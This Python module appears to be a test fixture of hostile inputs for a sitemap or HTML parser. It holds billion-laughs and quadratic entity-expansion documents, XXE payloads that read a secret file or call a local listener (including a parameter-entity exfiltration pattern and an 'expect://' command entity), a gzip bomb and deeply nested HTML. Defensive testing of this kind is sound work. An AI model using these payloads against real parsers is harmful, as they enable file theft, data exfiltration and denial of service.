"""Documents that are made to hurt their reader: XML that expands or fetches, trees without an end. All synthetic."""

import gzip
from collections.abc import Callable
from functools import partial
from typing import Final

Xml = Callable[[int, str], str]
"""Makes a document from the port of a listener and the path of a secret file."""

_LOC: Final = "https://tubankab.go.id/entry/a"


def _sitemap(body: str, dtd: str = "") -> str:
    return f'<?xml version="1.0"?>{dtd}<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{body}</urlset>'


def _loc(text: str) -> str:
    return f"<url><loc>{text}</loc></url>"


def _dtd(*declarations: str, root: str = "urlset") -> str:
    return f"<!DOCTYPE {root} [{''.join(declarations)}]>"


def _laughs(levels: int, times: int) -> str:
    rows = ['<!ENTITY l0 "ha">']
    rows += [f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, levels + 1)]
    return _dtd(*rows)


def _with_entity(declaration: str, use: str = "&x;") -> Xml:
    return lambda port, secret: _sitemap(_loc(use), _dtd(declaration.replace("PORT", str(port)).replace("SECRET", secret)))


def _fixed(text: str) -> Xml:
    return lambda port, secret: text.replace("PORT", str(port)).replace("SECRET", secret)


def _built(make: Callable[[], str]) -> Xml:
    """Of a large document, made when it is read."""
    return lambda port, secret: make()


_XI: Final = 'xmlns:xi="http://www.w3.org/2001/XInclude"'

XML: Final[dict[str, Xml]] = {
    "billion laughs": _fixed(_sitemap(_loc("&l9;"), _laughs(9, 10))),
    "billion laughs in an attribute": _fixed(_sitemap('<url a="&l9;"><loc>&l1;</loc></url>', _laughs(9, 10))),
    "laughs of two levels": _fixed(_sitemap(_loc("&l2;"), _laughs(2, 3))),
    "laughs by parameter entities": _fixed(
        _sitemap(_loc("&y;"), _dtd("<!ENTITY % a 'aaaaaaaaaa'>", "<!ENTITY % b '&#37;a;&#37;a;'>", "<!ENTITY y '%b;'>"))
    ),
    "quadratic blowup": _built(lambda: _sitemap(_loc("&x;" * 20_000), _dtd(f'<!ENTITY x "{"a" * 50_000}">'))),
    "entity that names itself": _with_entity('<!ENTITY x "&x;">'),
    "entities that name each other": _with_entity('<!ENTITY x "&y;"><!ENTITY y "&x;">'),
    "ten thousand entities": _built(lambda: _sitemap(_loc("&e9;"), _dtd(*(f'<!ENTITY e{n} "a">' for n in range(10_000))))),
    "XXE of a file": _with_entity('<!ENTITY x SYSTEM "file://SECRET">'),
    "XXE of a file without a scheme": _with_entity('<!ENTITY x SYSTEM "SECRET">'),
    "XXE of a file by PUBLIC": _with_entity('<!ENTITY x PUBLIC "x" "file://SECRET">'),
    "XXE of a file with a host": _with_entity('<!ENTITY x SYSTEM "file://localhostSECRET">'),
    "XXE of /dev/random": _with_entity('<!ENTITY x SYSTEM "file:///dev/random">'),
    "XXE over http": _with_entity('<!ENTITY x SYSTEM "http://127.0.0.1:PORT/x">'),
    "XXE over ftp": _with_entity('<!ENTITY x SYSTEM "ftp://127.0.0.1:PORT/x">'),
    "XXE over https": _with_entity('<!ENTITY x SYSTEM "https://127.0.0.1:PORT/x">'),
    "XXE by php filter": _with_entity('<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=SECRET">'),
    "XXE by expect": _with_entity('<!ENTITY x SYSTEM "expect://id">'),
    "XXE in an attribute": _fixed(_sitemap('<url a="&x;"/>', _dtd('<!ENTITY x SYSTEM "file://SECRET">'))),
    "unparsed entity": _with_entity(
        '<!NOTATION gif SYSTEM "http://127.0.0.1:PORT/v"><!ENTITY x SYSTEM "http://127.0.0.1:PORT/x" NDATA gif>'
    ),
    "DTD over http": _fixed('<!DOCTYPE urlset SYSTEM "http://127.0.0.1:PORT/evil.dtd">' + _sitemap(_loc("&x;"))[21:]),
    "DTD from a file": _fixed('<!DOCTYPE urlset SYSTEM "file://SECRET">' + _sitemap(_loc("&x;"))[21:]),
    "DTD by PUBLIC": _fixed('<!DOCTYPE urlset PUBLIC "-//x//EN" "http://127.0.0.1:PORT/evil.dtd">' + _sitemap(_loc("&x;"))[21:]),
    "parameter entity over http": _with_entity('<!ENTITY % p SYSTEM "http://127.0.0.1:PORT/evil.dtd">%p;'),
    "parameter entity from a file": _with_entity('<!ENTITY % p SYSTEM "file://SECRET">%p;'),
    "file sent away by parameter entities": _with_entity(
        '<!ENTITY % f SYSTEM "file://SECRET"><!ENTITY % e "<!ENTITY x SYSTEM \'http://127.0.0.1:PORT/?%f;\'>">%e;'
    ),
    "XInclude of a file": _fixed(_sitemap(f'<url><loc><xi:include {_XI} href="file://SECRET" parse="text"/></loc></url>')),
    "XInclude over http": _fixed(_sitemap(f'<url><loc><xi:include {_XI} href="http://127.0.0.1:PORT/x"/></loc></url>')),
    "stylesheet over http": _fixed('<?xml-stylesheet href="http://127.0.0.1:PORT/x.xsl"?>' + _sitemap("")[21:]),
    "schema over http": _fixed(
        '<urlset xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x http://127.0.0.1:PORT/x.xsd"/>'
    ),
    "a hundred thousand nested elements": _built(lambda: _sitemap("<url>" * 100_000)),
    "nested and closed": _built(lambda: _sitemap("<a>" * 20_000 + "</a>" * 20_000)),
    "twenty thousand attributes": _built(lambda: _sitemap("<url " + " ".join(f'a{n}="1"' for n in range(20_000)) + "/>")),
    "twenty thousand namespaces": _built(
        lambda: _sitemap("<url " + " ".join(f'xmlns:a{n}="x{n}"' for n in range(20_000)) + "/>")
    ),
    "a text of 50 MB": _built(lambda: _sitemap(_loc("a" * 50_000_000))),
    "a comment of 12 MB": _built(lambda: _sitemap(f"<!--{'a' * 12_000_000}-->")),
    "a name of a megabyte": _built(lambda: _sitemap(f"<{'a' * 1_000_000}/>")),
    "an attribute of 12 MB": _built(lambda: _sitemap(f'<url a="{"a" * 12_000_000}"/>')),
    "cut": _fixed(_sitemap(_loc(_LOC))[:-30]),
    "empty": _fixed(_sitemap("")),
    "nothing but a head": _fixed('<?xml version="1.0"?>'),
    "UTF-7": _fixed('<?xml version="1.0" encoding="UTF-7"?>+ADw-urlset+AD4APA-/urlset+AD4-'),
    "an encoding that does not exist": _fixed('<?xml version="1.0" encoding="x-none"?><urlset><url/></urlset>'),
    "NUL characters": _fixed(_sitemap(_loc("a\x00b"))),
    "two roots": _fixed(_sitemap("") + "<urlset/>"),
}

ZIPPED: Final[dict[str, Callable[[], bytes]]] = {
    "a gzip bomb": lambda: gzip.compress(b"<urlset>" + b" " * 100_000_000, 9, mtime=0),
    "a gzip cut": lambda: gzip.compress(_sitemap(_loc(_LOC)).encode(), mtime=0)[:-12],
    "a gzip of a gzip": lambda: gzip.compress(gzip.compress(_sitemap(_loc(_LOC)).encode(), mtime=0), mtime=0),
}

_ARTICLE: Final = (
    "<html><head><title>Bantuan benih</title></head><body><h1>Bantuan benih</h1><p>Selasa, 03 November 2026</p>"
    + "<p>Tubankab - Pemerintah Kabupaten Tuban menyalurkan bantuan benih padi kepada kelompok tani di Bancar.</p>" * 3
)


def _nested(tag: str) -> str:
    return _ARTICLE + f"<{tag}>" * 200_000


HTML: Final[dict[str, Callable[[], str]]] = {
    **{f"200,000 nested <{tag}>": partial(_nested, tag) for tag in ("div", "b", "table", "span", "p", "a", "ul", "font")},
    "two million nested <div>": lambda: _ARTICLE + "<div>" * 2_000_000,
    "nested and closed": lambda: _ARTICLE + "<div>" * 5_000 + "x" + "</div>" * 5_000 + "</body></html>",
    "a million end tags": lambda: _ARTICLE + "</div>" * 1_000_000,
    "200,000 empty elements": lambda: _ARTICLE + "<br>" * 200_000 + "</body></html>",
    "100,000 paragraphs": lambda: _ARTICLE + "<p>Tuban</p>" * 100_000 + "</body></html>",
    "100,000 links": lambda: _ARTICLE + "".join(f'<a href="/entry/x{n}">x</a>' for n in range(100_000)) + "</body></html>",
    "100,000 attributes of one tag": lambda: _ARTICLE + "<div " + " ".join(f"a{n}=1" for n in range(100_000)) + "></body></html>",
    "a million attributes": lambda: _ARTICLE + "<div " + "a=1 " * 1_000_000 + "></body></html>",
    "an attribute of 10 MB": lambda: _ARTICLE + '<div title="' + "a" * 10_000_000 + '"></div></body></html>',
    "a text of 15 MB": lambda: _ARTICLE + "<p>" + "a" * 15_000_000 + "</p></body></html>",
    "a text of 40 MB": lambda: _ARTICLE + "<p>" + "a" * 40_000_000 + "</p></body></html>",
    "a million entities": lambda: _ARTICLE + "<p>" + "&amp;" * 1_000_000 + "</p></body></html>",
    "a million entities that do not exist": lambda: _ARTICLE + "<p>" + "&xyzzy;" * 1_000_000 + "</p></body></html>",
    "a comment without an end": lambda: _ARTICLE + "<!--" + "a" * 5_000_000,
    "a script without an end": lambda: _ARTICLE + "<script>" + "<" * 5_000_000,
    "a tag without an end": lambda: _ARTICLE + "<div " + "a" * 5_000_000,
    "an attribute without an end": lambda: _ARTICLE + '<div title="' + "a" * 5_000_000,
    "a name of a megabyte": lambda: _ARTICLE + "<" + "a" * 1_000_000 + ">",
    "a million angle brackets": lambda: _ARTICLE + "<" * 1_000_000,
    "wrongly nested a hundred thousand times": lambda: _ARTICLE + "<b><i></b></i>" * 100_000,
    "tables in tables": lambda: _ARTICLE + "<table><tr><td>" * 50_000,
}
